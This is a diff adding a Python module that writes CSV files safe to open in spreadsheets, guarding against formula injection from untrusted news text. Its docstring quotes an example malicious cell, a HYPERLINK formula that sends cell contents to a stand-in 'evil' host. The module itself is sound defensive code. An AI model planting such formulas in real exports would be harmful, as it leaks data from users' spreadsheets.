@@ -1,0 +1,86 @@
+"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").
+
+Evidence sentences and names come from news articles, i.e. from strangers. A cell such as
+``=HYPERLINK("http://evil/?"&A1)`` would run as a formula in Excel, LibreOffice or Google Sheets, so
+every text cell starting with a formula trigger gets a leading apostrophe: spreadsheets then show it as
+text. Real numbers (``int``/``float``, including negative ones) are left alone: they are data, and an
+apostrophe would turn them into text.
+
+The file is RFC 4180 (``\\r\\n`` line ends, minimal quoting) with a UTF-8 byte-order mark by default,
+because Excel only reads a CSV as UTF-8, and so shows Chinese correctly, when the mark is there.
+"""
+from __future__ import annotations
+
+import csv
+import datetime as _dt
+import decimal
+from typing import Any, Iterable, TextIO
+
+__all__ = ["neutralise", "write_csv", "FORMULA_TRIGGERS"]
+
+# = + - @ start formulas; TAB and CR are on OWASP's list because some spreadsheets skip them and then
+# read the formula behind them.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> str:
+    """The cell as text a spreadsheet will not evaluate: None is empty, numbers stay numbers."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):  # before int: bool is an int subclass, and "True" is clearer than "1"
+        return str(value).lower()
+    if isinstance(value, (int, float, decimal.Decimal)):
+        return _plain_number(value)
+    if isinstance(value, (_dt.date, _dt.datetime)):
+        return value.isoformat()
+    if isinstance(value, (list, tuple, set, frozenset)):  # e.g. the names of a flow: one readable cell
+        return neutralise("; ".join("" if item is None else str(item) for item in value))
+    text = str(value)
+    if text.startswith(FORMULA_TRIGGERS):
+        return "'" + text
+    return text
+
+
+def _plain_number(value: int | float | decimal.Decimal) -> str:
+    """Digits as a person would type them: no exponent (6.6e9 would read as a formula-like oddity)."""
+    if isinstance(value, float):
+        if value != value or value in (float("inf"), float("-inf")):
+            return str(value)  # nan / inf: nothing sensible to write, keep Python's spelling
+        if value.is_integer():
+            return str(int(value))
+        return format(decimal.Decimal(repr(value)), "f")
+    if isinstance(value, decimal.Decimal):
+        return format(value, "f")
+    return str(value)
+
+
+def write_csv(
+    rows: Iterable[dict],
+    columns: list[str],
+    out: TextIO,
+    *,
+    raw: bool = False,
+    bom: bool = True,
+) -> int:
+    """Write a header and one line per row (missing keys are empty cells); return the number of rows written.
+
+    ``out`` should be opened with ``encoding="utf-8", newline=""`` so the ``\\r\\n`` line ends reach the
+    file unchanged. ``raw=True`` writes values as they are (for programs, not spreadsheets).
+    """
+    if bom:
+        out.write("\ufeff")
+    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
+    writer.writerow([_cell(column, raw) for column in columns])
+    count = 0
+    for row in rows:
+        writer.writerow([_cell(row.get(column), raw) for column in columns])
+        count += 1
+    return count
+
+
+def _cell(value: Any, raw: bool) -> str:
+    if raw:
+        if isinstance(value, (list, tuple, set, frozenset)):
+            return "; ".join("" if item is None else str(item) for item in value)
+        return "" if value is None else str(value)
+    return neutralise(value)
